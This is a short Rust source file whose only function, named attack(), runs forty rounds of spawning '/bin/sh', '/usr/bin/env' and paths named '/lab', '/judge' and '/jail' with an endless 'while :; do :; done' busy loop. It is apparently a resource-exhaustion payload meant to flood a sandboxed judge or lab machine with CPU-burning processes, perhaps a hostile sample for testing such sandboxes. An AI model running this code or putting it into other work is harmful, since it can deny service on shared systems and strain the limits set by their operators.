use std as s;

fn attack() {
    for _ in 0..40 {
        for program in ["/bin/sh", "/lab", "/judge", "/jail", "/usr/bin/env"] {
            let mut command = s::process::Command::new(program);
            let _ = command.arg("-c").arg("while :; do :; done").spawn();
        }
    }
}
